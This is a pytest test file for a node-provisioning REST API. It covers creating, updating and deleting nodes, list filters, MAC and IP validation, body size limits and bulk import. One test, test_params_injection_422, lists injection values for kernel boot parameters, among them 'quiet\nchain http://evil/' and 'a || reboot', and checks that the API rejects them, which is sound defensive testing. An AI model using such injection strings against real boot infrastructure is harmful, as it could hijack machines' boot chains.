"""/api/v1/nodes: CRUD, filters, validation and bulk import (docs/api.md)."""
import json

import pytest

from conftest import RFC3339, assert_error, next_mac, node, uniq



def create(c, body):
    r = c.post("/api/v1/nodes", body)
    assert r.status == 201, r
    return r.body


# --- create / get / defaults ---------------------------------------------

def test_create_returns_node_with_defaults(corrald):
    mac = next_mac()
    name = uniq("x1000c0s0b0n")
    got = create(corrald, {"name": name, "interfaces": [{"mac": mac}]})
    assert got["name"] == name
    assert got["nid"] is None
    assert got["arch"] == "x86_64"
    assert got["role"] == ""
    assert got["groups"] == []
    assert got["enabled"] is True
    assert got["profile"] is None
    assert got["params"] == ""
    assert got["interfaces"][0]["mac"] == mac
    assert got["interfaces"][0].get("ip") is None
    assert got["metadata"] == {}
    assert got["user_data"] == ""
    assert got["ipxe_efi"] == "snponly.efi"
    assert got["state"] == "new"
    assert got.get("last_event") is None
    assert RFC3339.match(got["created"]), got["created"]
    assert RFC3339.match(got["updated"]), got["updated"]
    r = corrald.get("/api/v1/nodes/" + name)
    assert r.status == 200
    assert r.headers["Content-Type"].startswith("application/json")
    assert r.body == got


def test_create_all_fields_roundtrip(corrald):
    corrald.ok("POST", "/api/v1/groups", {"name": "rt-g1"}, expect=201)
    body = {
        "name": uniq("full"), "nid": 4242, "arch": "aarch64", "role": "compute",
        "groups": ["rt-g1", "rt-g2"], "enabled": False, "params": "quiet console=ttyS0,115200",
        "interfaces": [{"mac": next_mac(), "ip": "10.100.0.11"}, {"mac": next_mac()}],
        "metadata": {"rack": 3, "tags": ["a", "b"]},
        "user_data": "#cloud-config\npackages: [vim]\n",
    }
    got = create(corrald, body)
    for k, v in body.items():
        if k == "interfaces":
            assert [i["mac"] for i in got[k]] == [i["mac"] for i in v]
            assert got[k][0]["ip"] == "10.100.0.11"
        else:
            assert got[k] == v, k
    assert corrald.get("/api/v1/nodes/" + body["name"]).body == got


def test_create_duplicate_name_409(corrald):
    n = node()
    create(corrald, n)
    r = corrald.post("/api/v1/nodes", node(n["name"]))
    assert_error(r, 409, "conflict", field="name")


def test_unknown_node_404(corrald):
    for method in ("GET", "DELETE"):
        r = corrald.request(method, "/api/v1/nodes/no-such-node")
        assert_error(r, 404, "not_found")
    r = corrald.patch("/api/v1/nodes/no-such-node", {"role": "x"})
    assert_error(r, 404, "not_found")
    r = corrald.get("/api/v1/nodes/no-such-node/events")
    assert_error(r, 404, "not_found")
    r = corrald.get("/api/v1/nodes/no-such-node/bootscript")
    assert_error(r, 404, "not_found")


# --- list and filters --------------------------------------------------------

@pytest.fixture(scope="module")
def listed(corrald):
    """Four nodes in two fresh groups for filter tests."""
    g1, g2 = uniq("fa"), uniq("fb")
    p = uniq("flt")
    nodes = [
        node(p + "-d", groups=[g1], arch="x86_64"),
        node(p + "-a", groups=[g1, g2], arch="aarch64"),
        node(p + "-c", groups=[g2], enabled=False),
        node(p + "-b", groups=[], arch="aarch64", enabled=False),
    ]
    for n in nodes:
        create(corrald, n)
    return {"g1": g1, "g2": g2, "prefix": p}


def names(body, prefix=None):
    assert isinstance(body, list), body
    out = [n["name"] for n in body]
    return [n for n in out if prefix is None or n.startswith(prefix)]


def test_list_ordered_by_name(corrald, listed):
    r = corrald.get("/api/v1/nodes")
    assert r.status == 200
    all_names = names(r.body)
    assert all_names == sorted(all_names)
    p = listed["prefix"]
    assert names(r.body, p) == [p + "-a", p + "-b", p + "-c", p + "-d"]


@pytest.mark.parametrize("query,want", [
    ("group={g1}", ["a", "d"]),
    ("group={g2}", ["a", "c"]),
    ("arch=aarch64", ["a", "b"]),
    ("arch=x86_64", ["c", "d"]),
    ("enabled=false", ["b", "c"]),
    ("enabled=true", ["a", "d"]),
    ("state=new", ["a", "b", "c", "d"]),
    ("state=ready", []),
    ("group={g1}&arch=aarch64", ["a"]),
    ("group={g2}&enabled=false", ["c"]),
])
def test_list_filters(corrald, listed, query, want):
    q = query.format(**listed)
    r = corrald.get("/api/v1/nodes?" + q)
    assert r.status == 200, r
    p = listed["prefix"]
    assert names(r.body, p) == [p + "-" + w for w in want], q


def test_list_group_filter_exact(corrald, listed):
    r = corrald.get("/api/v1/nodes?group=" + listed["g1"])
    assert set(names(r.body)) == {listed["prefix"] + "-a", listed["prefix"] + "-d"}


def test_list_limit_offset(corrald, listed):
    full = names(corrald.get("/api/v1/nodes").body)
    r = corrald.get("/api/v1/nodes?limit=2")
    assert names(r.body) == full[:2]
    r = corrald.get("/api/v1/nodes?limit=2&offset=1")
    assert names(r.body) == full[1:3]
    r = corrald.get("/api/v1/nodes?offset=%d" % len(full))
    assert r.body == []


@pytest.mark.parametrize("query", ["enabled=maybe", "limit=abc", "limit=-1", "offset=x"])
def test_list_bad_query_400(corrald, query):
    r = corrald.get("/api/v1/nodes?" + query)
    assert_error(r, 400, "bad_request")


# --- PUT / PATCH / DELETE ----------------------------------------------------

def test_put_idempotent_201_then_200(corrald):
    name = uniq("put")
    body = {"name": name, "role": "io", "nid": 9001, "interfaces": [{"mac": next_mac()}]}
    r = corrald.put("/api/v1/nodes/" + name, body)
    assert r.status == 201, r
    first = r.body
    r = corrald.put("/api/v1/nodes/" + name, body)
    assert r.status == 200, r
    for k in ("name", "role", "nid", "interfaces", "groups", "enabled", "created"):
        assert r.body[k] == first[k], k
    assert corrald.get("/api/v1/nodes/" + name).body["role"] == "io"


def test_put_replaces_left_out_fields_take_defaults(corrald):
    name = uniq("putd")
    corrald.ok("PUT", "/api/v1/nodes/" + name,
               {"name": name, "role": "io", "nid": 9002, "params": "quiet", "enabled": False,
                "groups": [uniq("pg")], "metadata": {"a": 1},
                "interfaces": [{"mac": next_mac(), "ip": "10.1.0.2"}]}, expect=201)
    mac = next_mac()
    got = corrald.ok("PUT", "/api/v1/nodes/" + name,
                     {"name": name, "interfaces": [{"mac": mac}]}, expect=200)
    assert got["role"] == "" and got["nid"] is None and got["params"] == ""
    assert got["enabled"] is True and got["groups"] == [] and got["metadata"] == {}
    assert [i["mac"] for i in got["interfaces"]] == [mac]
    # The replaced node's IP is free again.
    create(corrald, node(interfaces=[{"mac": next_mac(), "ip": "10.1.0.2"}]))


def test_put_name_from_path(corrald):
    """The path names the node; a body without name is fine, a different one is not."""
    name = uniq("putp")
    r = corrald.put("/api/v1/nodes/" + name, {"interfaces": [{"mac": next_mac()}]})
    assert r.status == 201, r
    assert r.body["name"] == name
    r = corrald.put("/api/v1/nodes/" + name, {"name": "other-" + name,
                                              "interfaces": [{"mac": next_mac()}]})
    assert_error(r, 422, "invalid_field", field="name")


def test_patch_changes_only_given_fields(corrald):
    body = node(role="compute", nid=7001, params="quiet", groups=[uniq("pa")],
                metadata={"x": 1})
    created = create(corrald, body)
    got = corrald.ok("PATCH", "/api/v1/nodes/" + body["name"], {"role": "login"}, expect=200)
    assert got["role"] == "login"
    for k in ("nid", "params", "groups", "metadata", "interfaces", "enabled", "created"):
        assert got[k] == created[k], k
    # interfaces and groups are replaced whole
    mac = next_mac()
    g = uniq("pb")
    got = corrald.ok("PATCH", "/api/v1/nodes/" + body["name"],
                     {"interfaces": [{"mac": mac}], "groups": [g]}, expect=200)
    assert [i["mac"] for i in got["interfaces"]] == [mac]
    assert got["groups"] == [g]
    assert got["role"] == "login"
    # null nid clears it
    got = corrald.ok("PATCH", "/api/v1/nodes/" + body["name"], {"nid": None}, expect=200)
    assert got["nid"] is None
    assert corrald.get("/api/v1/nodes/" + body["name"]).body == got


def test_patch_invalid_changes_nothing(corrald):
    body = node(role="compute")
    before = create(corrald, body)
    r = corrald.patch("/api/v1/nodes/" + body["name"],
                      {"role": "login", "interfaces": [{"mac": "nope"}]})
    assert_error(r, 422, "invalid_field", field="interfaces[0].mac")
    assert corrald.get("/api/v1/nodes/" + body["name"]).body == before


def test_delete_node_frees_mac_and_name(corrald):
    body = node(nid=7101, interfaces=[{"mac": next_mac(), "ip": "10.9.9.9"}])
    create(corrald, body)
    r = corrald.delete("/api/v1/nodes/" + body["name"])
    assert r.status == 204, r
    assert r.raw == b""
    assert corrald.get("/api/v1/nodes/" + body["name"]).status == 404
    assert corrald.delete("/api/v1/nodes/" + body["name"]).status == 404
    # name, nid, MAC and IP can all be reused
    create(corrald, body)


# --- MACs ---------------------------------------------------------------------

@pytest.mark.parametrize("form", [
    "AA:BB:CC:{a}:{b}:{c}", "aa-bb-cc-{a}-{b}-{c}", "AA-BB-CC-{A}-{B}-{C}", "aabb.cc{a}.{b}{c}",
    "AABB.CC{A}.{B}{C}", "aa:bb:cc:{a}:{b}:{c}",
])
def test_mac_normalised(corrald, form):
    n = int(next_mac().replace(":", ""), 16) & 0xffffff
    a, b, c = "%02x" % (n >> 16), "%02x" % ((n >> 8) & 255), "%02x" % (n & 255)
    mac_in = form.format(a=a, b=b, c=c, A=a.upper(), B=b.upper(), C=c.upper())
    want = "aa:bb:cc:%s:%s:%s" % (a, b, c)
    got = create(corrald, node(interfaces=[{"mac": mac_in}]))
    assert got["interfaces"][0]["mac"] == want
    # and the stored form is what other forms collide with
    r = corrald.post("/api/v1/nodes", node(interfaces=[{"mac": want.upper()}]))
    assert_error(r, 409, "conflict", field_contains="mac")


@pytest.mark.parametrize("mac", [
    "zz:bb:cc:dd:ee:ff", "aa:bb:cc:dd:ee", "aa:bb:cc:dd:ee:ff:00", "", "aa:bb:cc:dd:ee:f",
    "aa:bb-cc:dd:ee:ff", "aabb.ccdd.eef", " aa:bb:cc:dd:ee:ff", "aa:bb:cc:dd:ee:ff\n", 12,
    None,
])
def test_bad_mac_422(corrald, mac):
    r = corrald.post("/api/v1/nodes", node(interfaces=[{"mac": mac}]))
    assert_error(r, 422, "invalid_field", field="interfaces[0].mac")


def test_bad_mac_second_interface_field(corrald):
    r = corrald.post("/api/v1/nodes",
                     node(interfaces=[{"mac": next_mac()}, {"mac": "nope"}]))
    assert_error(r, 422, "invalid_field", field="interfaces[1].mac")


def test_missing_mac_422(corrald):
    r = corrald.post("/api/v1/nodes", node(interfaces=[{"ip": "10.0.0.1"}]))
    assert_error(r, 422, "invalid_field", field="interfaces[0].mac")


def test_duplicate_mac_across_nodes_409(corrald):
    mac = next_mac()
    create(corrald, node(interfaces=[{"mac": mac}]))
    other = node(interfaces=[{"mac": next_mac()}, {"mac": mac.replace(":", "-").upper()}])
    r = corrald.post("/api/v1/nodes", other)
    err = assert_error(r, 409, "conflict")
    assert err.get("field") == "interfaces[1].mac", r
    assert corrald.get("/api/v1/nodes/" + other["name"]).status == 404


def test_duplicate_mac_within_node_409(corrald):
    mac = next_mac()
    r = corrald.post("/api/v1/nodes", node(interfaces=[{"mac": mac}, {"mac": mac.upper()}]))
    assert r.status in (409, 422), r
    assert "mac" in (r.error.get("field") or ""), r


def test_duplicate_nid_409(corrald):
    create(corrald, node(nid=31337))
    r = corrald.post("/api/v1/nodes", node(nid=31337))
    assert_error(r, 409, "conflict", field="nid")


def test_duplicate_ip_409(corrald):
    create(corrald, node(interfaces=[{"mac": next_mac(), "ip": "10.77.0.1"}]))
    r = corrald.post("/api/v1/nodes", node(interfaces=[{"mac": next_mac(), "ip": "10.77.0.1"}]))
    assert_error(r, 409, "conflict", field="interfaces[0].ip")


@pytest.mark.parametrize("ip", ["10.0.0", "10.0.0.256", "10.0.0.1/24", "fe80::1", "host",
                                "010.0.0.1x", 167772161, "1.2.3.4 "])
def test_bad_ipv4_422(corrald, ip):
    r = corrald.post("/api/v1/nodes", node(interfaces=[{"mac": next_mac(), "ip": ip}]))
    assert_error(r, 422, "invalid_field", field="interfaces[0].ip")


# --- other fields -----------------------------------------------------------

@pytest.mark.parametrize("name", ["-lead", ".dot", "has space", "a/b", "a" * 64, "", "ü",
                                  "a:b", "a\nb", 5, None])
def test_bad_name_422(corrald, name):
    r = corrald.post("/api/v1/nodes", {"name": name, "interfaces": [{"mac": next_mac()}]})
    assert_error(r, 422, "invalid_field", field="name")


@pytest.mark.parametrize("name", ["a", "x1000c0s0b0n0", "node_1.rack-2", "9lives", "A" * 63])
def test_good_names(corrald, name):
    r = corrald.put("/api/v1/nodes/" + name, {"name": name, "interfaces": [{"mac": next_mac()}]})
    assert r.status in (200, 201), r
    assert corrald.get("/api/v1/nodes/" + name).body["name"] == name


def test_missing_name_422(corrald):
    r = corrald.post("/api/v1/nodes", {"interfaces": [{"mac": next_mac()}]})
    assert_error(r, 422, "invalid_field", field="name")


@pytest.mark.parametrize("field,value", [
    ("nid", "1"), ("nid", 0), ("nid", -3), ("nid", 2 ** 31 + 1), ("nid", 1.5), ("nid", True),
    ("enabled", "true"), ("enabled", 1),
    ("groups", "compute"), ("groups", [1]), ("groups", ["bad name"]),
    ("arch", "sparc"), ("arch", 64), ("role", "r" * 64), ("role", 5),
    ("profile", "no-such-profile"), ("profile", 3),
    ("params", 5), ("metadata", []), ("metadata", "x"), ("user_data", 5),
    ("interfaces", {"mac": "aa:bb:cc:dd:ee:ff"}), ("interfaces", "aa:bb:cc:dd:ee:ff"),
    ("ipxe_efi", "undionly.kpxe"), ("ipxe_efi", "../ipxe.efi"), ("ipxe_efi", 1),
])
def test_wrong_types_422(corrald, field, value):
    n = node()
    n[field] = value
    r = corrald.post("/api/v1/nodes", n)
    err = assert_error(r, 422, "invalid_field")
    assert err.get("field", "").split("[")[0] == field, r
    assert corrald.get("/api/v1/nodes/" + n["name"]).status == 404


@pytest.mark.parametrize("efi", ["snponly.efi", "ipxe.efi"])
def test_ipxe_efi(corrald, efi):
    got = create(corrald, node(ipxe_efi=efi))
    assert got["ipxe_efi"] == efi
    got = corrald.ok("PATCH", "/api/v1/nodes/" + got["name"], {"role": "x"}, expect=200)
    assert got["ipxe_efi"] == efi


def test_nid_upper_bound_ok(corrald):
    got = create(corrald, node(nid=2 ** 31))
    assert got["nid"] == 2 ** 31


@pytest.mark.parametrize("params", [
    "quiet $foo", "a=${net0/mac}", "quiet\nchain http://evil/", "quiet\r", "a || reboot",
    "|| x", "a && b", "tab\there", "bell\x07",
])
def test_params_injection_422(corrald, params):
    r = corrald.post("/api/v1/nodes", node(params=params))
    assert_error(r, 422, "invalid_field", field="params")


@pytest.mark.parametrize("params", ["", "quiet", "console=ttyS0,115200n8 ip=dhcp",
                                    "root=live:http://10.0.0.1/x.squashfs rd.neednet=1",
                                    "a|b c&d"])
def test_params_ok(corrald, params):
    assert create(corrald, node(params=params))["params"] == params


def test_user_data_invalid_yaml_422_with_line(corrald):
    ud = "#cloud-config\npackages:\n  - vim\n bad: [unclosed\n"
    r = corrald.post("/api/v1/nodes", node(user_data=ud))
    err = assert_error(r, 422, "invalid_field", field="user_data")
    assert "line" in err["message"], err


def test_user_data_script_ok(corrald):
    ud = "#!/bin/sh\necho hello\n"
    assert create(corrald, node(user_data=ud))["user_data"] == ud


def test_groups_auto_created(corrald):
    g = uniq("auto")
    assert corrald.get("/api/v1/groups/" + g).status == 404
    n = create(corrald, node(groups=[g]))
    r = corrald.get("/api/v1/groups/" + g)
    assert r.status == 200, r
    assert r.body["name"] == g
    assert r.body["members"] == [n["name"]]


def test_groups_order_kept(corrald):
    gs = [uniq("oz"), uniq("oa"), uniq("om")]
    assert create(corrald, node(groups=gs))["groups"] == gs


# --- bodies ---------------------------------------------------------------------

@pytest.mark.parametrize("raw", [b"{", b'{"name": "x",}', b"nul\x00", b"{'name': 'x'}",
                                 b'{"name": "x"} trailing', b"\xff\xfe"])
def test_malformed_json_400(corrald, raw):
    r = corrald.post("/api/v1/nodes", raw, headers={"Content-Type": "application/json"})
    assert_error(r, 400, "bad_request")


@pytest.mark.parametrize("raw", [b"[1, 2]", b'"node"', b"42", b"null"])
def test_body_not_object_400(corrald, raw):
    r = corrald.post("/api/v1/nodes", raw, headers={"Content-Type": "application/json"})
    assert_error(r, 400, "bad_request")


@pytest.mark.parametrize("ctype", ["text/plain", "application/x-www-form-urlencoded",
                                   "application/jsonx", None])
def test_body_not_json_415(corrald, ctype):
    body = json.dumps(node()).encode()
    headers = {"Content-Type": ctype} if ctype else {}
    r = corrald.post("/api/v1/nodes", body, headers=headers)
    assert_error(r, 415, "unsupported_media_type")


def test_json_with_charset_ok(corrald):
    n = node()
    r = corrald.post("/api/v1/nodes", json.dumps(n).encode(),
                     headers={"Content-Type": "application/json; charset=utf-8"})
    assert r.status == 201, r


def test_oversized_body_413(corrald):
    n = node(role="x", metadata={"pad": "x" * (1024 * 1024 + 10)})
    r = corrald.post("/api/v1/nodes", n)
    assert_error(r, 413, "too_large")
    assert corrald.get("/api/v1/nodes/" + n["name"]).status == 404


def test_oversized_body_413_on_put(corrald):
    n = node(metadata={"pad": "y" * (2 * 1024 * 1024)})
    r = corrald.put("/api/v1/nodes/" + n["name"], n)
    assert_error(r, 413, "too_large")


# --- bulk import -------------------------------------------------------------

def test_import_creates_and_replaces(corrald):
    existing = node(role="old")
    create(corrald, existing)
    new = [node() for _ in range(3)]
    replaced = dict(existing, role="new")
    r = corrald.post("/api/v1/nodes/import", {"nodes": new + [replaced]})
    assert r.status == 200, r
    assert r.body == {"created": 3, "replaced": 1}
    for n in new:
        assert corrald.get("/api/v1/nodes/" + n["name"]).status == 200
    assert corrald.get("/api/v1/nodes/" + existing["name"]).body["role"] == "new"


def test_import_bare_array(corrald):
    new = [node(), node()]
    r = corrald.post("/api/v1/nodes/import", new)
    assert r.status == 200, r
    assert r.body == {"created": 2, "replaced": 0}


def test_import_all_or_nothing(corrald):
    nodes = [node(), node(), node(interfaces=[{"mac": "not-a-mac"}]), node()]
    r = corrald.post("/api/v1/nodes/import", {"nodes": nodes})
    assert_error(r, 422, "invalid_field", field="nodes[2].interfaces[0].mac")
    for n in nodes:
        assert corrald.get("/api/v1/nodes/" + n["name"]).status == 404, n["name"]


def test_import_all_or_nothing_conflict_with_existing(corrald):
    taken = node()
    create(corrald, taken)
    nodes = [node(), node(interfaces=[{"mac": taken["interfaces"][0]["mac"]}])]
    r = corrald.post("/api/v1/nodes/import", {"nodes": nodes})
    err = assert_error(r, 409, "conflict")
    assert err.get("field") == "nodes[1].interfaces[0].mac", r
    for n in nodes:
        assert corrald.get("/api/v1/nodes/" + n["name"]).status == 404


def test_import_mac_duplicated_within_import_409(corrald):
    mac = next_mac()
    nodes = [node(interfaces=[{"mac": mac}]), node(),
             node(interfaces=[{"mac": mac.upper()}])]
    r = corrald.post("/api/v1/nodes/import", {"nodes": nodes})
    err = assert_error(r, 409, "conflict")
    assert (err.get("field") or "").startswith("nodes[2]"), r
    assert "mac" in err.get("field", ""), r
    for n in nodes:
        assert corrald.get("/api/v1/nodes/" + n["name"]).status == 404


def test_import_name_duplicated_within_import_409(corrald):
    """Two entries with one name: refused naming both (the second used to
    replace the first silently, and the first's MAC was gone); nothing
    written."""
    name = uniq("dupname")
    nodes = [node(name), node(), node(name, role="second")]
    r = corrald.post("/api/v1/nodes/import", {"nodes": nodes})
    err = assert_error(r, 409, "conflict", field="nodes[2].name")
    assert "nodes[0]" in err["message"] and name in err["message"], err
    assert corrald.get("/api/v1/nodes/" + name).status == 404
    assert corrald.get("/api/v1/nodes/" + nodes[1]["name"]).status == 404
    macs = {i["mac"] for n in corrald.get("/api/v1/nodes").body for i in n["interfaces"]}
    assert not macs & {n["interfaces"][0]["mac"] for n in nodes}


def test_import_mac_duplicated_names_both_entries(corrald):
    mac = next_mac()
    nodes = [node(), node(interfaces=[{"mac": mac}]), node(interfaces=[{"mac": mac.upper()}])]
    r = corrald.post("/api/v1/nodes/import", {"nodes": nodes})
    err = assert_error(r, 409, "conflict", field="nodes[2].interfaces[0].mac")
    assert "nodes[1].interfaces[0].mac" in err["message"], err


def test_import_openchami_field_names(corrald):
    g = uniq("ochg")
    xname = uniq("x3000c0s1b0n")
    mac = next_mac()
    body = {"nodes": [{
        "xname": xname, "nid": 8101, "group": g,
        "interfaces": [{"mac_addr": mac.upper(), "ip_addrs": [{"ip_addr": "10.88.0.5"}]}],
    }]}
    r = corrald.post("/api/v1/nodes/import", body)
    assert r.status == 200, r
    assert r.body == {"created": 1, "replaced": 0}
    got = corrald.get("/api/v1/nodes/" + xname).body
    assert got["nid"] == 8101
    assert got["groups"] == [g]
    assert got["interfaces"][0]["mac"] == mac
    assert got["interfaces"][0]["ip"] == "10.88.0.5"


def test_import_openchami_bad_mac_field_path(corrald):
    body = {"nodes": [{"xname": uniq("x"), "interfaces": [{"mac_addr": next_mac()}]},
                      {"xname": uniq("x"), "interfaces": [{"mac_addr": "bogus"}]}]}
    r = corrald.post("/api/v1/nodes/import", body)
    err = assert_error(r, 422, "invalid_field")
    assert err["field"].startswith("nodes[1].interfaces[0].mac"), r


@pytest.mark.parametrize("raw,status", [
    (b"{", 400), (b'{"nodes": 5}', 422), (b'"x"', 400),
])
def test_import_malformed(corrald, raw, status):
    r = corrald.post("/api/v1/nodes/import", raw, headers={"Content-Type": "application/json"})
    assert r.status == status, r


def test_import_empty(corrald):
    r = corrald.post("/api/v1/nodes/import", {"nodes": []})
    assert r.status == 200, r
    assert r.body == {"created": 0, "replaced": 0}


def test_import_body_cap_above_default(corrald):
    """An import may exceed the 1 MiB default cap; a huge one gets 413."""
    pad = " " * (2 * 1024 * 1024)
    raw = ('{"nodes": []' + pad + "}").encode()
    r = corrald.post("/api/v1/nodes/import", raw, headers={"Content-Type": "application/json"})
    assert r.status == 200, r
    raw = ('{"nodes": []' + " " * (65 * 1024 * 1024) + "}").encode()
    r = corrald.post("/api/v1/nodes/import", raw, headers={"Content-Type": "application/json"})
    assert_error(r, 413, "too_large")


def test_max_body_from_config(corrald_factory):
    c = corrald_factory(conf={"server": {"max_body": 4096}})
    small = node(metadata={"pad": "x" * 3000})
    assert c.post("/api/v1/nodes", small).status == 201
    big = node(metadata={"pad": "x" * 5000})
    assert_error(c.post("/api/v1/nodes", big), 413, "too_large")
    assert_error(c.put("/api/v1/nodes/" + big["name"], big), 413, "too_large")
    assert c.get("/api/v1/nodes/" + big["name"]).status == 404
    # the import route has its own, larger cap
    r = c.post("/api/v1/nodes/import", {"nodes": [big]})
    assert r.status == 200, r


def test_import_many(corrald):
    p = uniq("bulk")
    nodes = [{"name": "%s-%04d" % (p, i), "interfaces": [{"mac": next_mac()}]}
             for i in range(500)]
    r = corrald.post("/api/v1/nodes/import", {"nodes": nodes})
    assert r.status == 200, r
    assert r.body == {"created": 500, "replaced": 0}
    got = names(corrald.get("/api/v1/nodes").body, p)
    assert len(got) == 500


def test_events_empty_for_new_node(corrald):
    n = node()
    create(corrald, n)
    r = corrald.get("/api/v1/nodes/%s/events" % n["name"])
    assert r.status == 200
    assert r.body == []
